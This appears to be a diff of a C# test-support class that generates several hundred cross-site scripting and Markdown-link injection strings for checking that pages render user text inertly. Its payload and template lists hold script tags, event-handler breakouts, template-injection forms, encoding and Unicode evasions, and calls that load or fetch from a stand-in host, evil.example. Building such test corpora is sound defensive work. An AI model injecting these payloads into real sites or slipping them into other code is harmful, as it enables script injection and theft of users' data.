@@ -1,11 +1,14 @@
-namespace Outreach.Staff.Tests.Cases;
+using System.Globalization;
+using System.Text;
 
-/// <summary>Texts that would run, load or lead somewhere if a page took them for more than letters: 500 and more of markup, 200 and more of Markdown.</summary>
-internal static class Tricks
+namespace Outreach.Testing.Tricks;
+
+/// <summary>Texts that would run, load or lead somewhere if a page took them for more than letters: each way to say it in each place that may take it.</summary>
+public static class TrickTexts
 {
     private static readonly string[] Payloads =
     [
-        "alert(1)", "fetch('//evil.example')", "document.location='//evil.example'", "import('//evil.example/x.js')", "eval(name)", "top.x=1", "print()", "confirm`1`",
+        "top.x=1", "alert(1)", "fetch('//evil.example')", "document.location='//evil.example'", "import('//evil.example/x.js')", "eval(name)", "print()", "confirm`1`", "prompt(1)",
     ];
 
     private static readonly string[] Elements =
@@ -20,7 +23,7 @@ internal static class Tricks
         "</textarea><script>{0}</script>", "</title><script>{0}</script>", "</script><script>{0}</script>", "</li></ol></div><script>{0}</script>", "\"><script>{0}</script>", "'><script>{0}</script>",
         "\" onmouseover={0} x=\"", "' onmouseover={0} x='", "` onmouseover={0}", "{{{{constructor.constructor('{0}')()}}}}", "${{{0}}}", "#{{{0}}}", "<%= {0} %>", "@(System.Console.Write({0}))",
         "<div hx-get=//evil.example hx-trigger=load hx-on:load={0}>", "<div data-hx-get='/dang-xuat' hx-trigger='load' x={0}>", "<x contenteditable onblur={0} tabindex=1 autofocus>", "<div style=background:url(javascript:{0})>",
-        "<div style='x:expression({0})'>", "<table background=javascript:{0}>", "<isindex action=javascript:{0} type=image>", "\u003cscript\u003e{0}\u003c/script\u003e", "&lt;script&gt;{0}&lt;/script&gt;",
+        "<div style='x:expression({0})'>", "<table background=javascript:{0}>", "<isindex action=javascript:{0} type=image>", "<keygen autofocus onfocus={0}>", "&lt;script&gt;{0}&lt;/script&gt;",
         "%3Cscript%3E{0}%3C/script%3E", "\\u003cscript\\u003e{0}\\u003c/script\\u003e", "<scr\u0000ipt>{0}</scr\u0000ipt>", "<\u200Bscript>{0}</script>", "\u202E<script>{0}</script>", "<SCRIPT\u2028SRC=//evil.example>{0}",
         "+ADw-script+AD4-{0}+ADw-/script+AD4-",
     ];
@@ -37,7 +40,31 @@ internal static class Tricks
         "| a |\n|---|\n| [x]({0}) |", "~~[x]({0})~~", "`</code>`[x]({0})", "```html\n<img src={0}>\n```", "[x]({0}){{onclick=alert(1)}}", "[^1]: {0}", "{{{{hotline:{0}}}}}", "<details>[x]({0})</details>",
     ];
 
-    public static IEnumerable<string> All =>
-        Elements.SelectMany(element => Payloads.Select(payload => string.Format(System.Globalization.CultureInfo.InvariantCulture, element, payload)))
-            .Concat(Marks.SelectMany(mark => Targets.Select(target => string.Format(System.Globalization.CultureInfo.InvariantCulture, mark, target))));
+    /// <summary>More than 500 of markup. What one of them would do is seen as a dialog, a call of <c>print</c>, a value in <c>top.x</c>, or a request.</summary>
+    public static IReadOnlyList<string> Markup { get; } =
+        [.. Elements.SelectMany(element => Payloads.Select(payload => string.Format(CultureInfo.InvariantCulture, element, payload)))];
+
+    /// <summary>More than 200 of Markdown.</summary>
+    public static IReadOnlyList<string> Markdown { get; } =
+        [.. Marks.SelectMany(mark => Targets.Select(target => string.Format(CultureInfo.InvariantCulture, mark, target)))];
+
+    public static IEnumerable<string> All => Markup.Concat(Markdown);
+
+    /// <summary>All of them, one a line, in texts of at most this length.</summary>
+    public static IEnumerable<string> Batches(int maxChars)
+    {
+        var batch = new StringBuilder();
+        foreach (var trick in All)
+        {
+            if (batch.Length > 0 && batch.Length + trick.Length + 1 > maxChars)
+            {
+                yield return batch.ToString();
+                batch.Clear();
+            }
+
+            batch.Append(batch.Length > 0 ? "\n" : "").Append(trick);
+        }
+
+        yield return batch.ToString();
+    }
 }
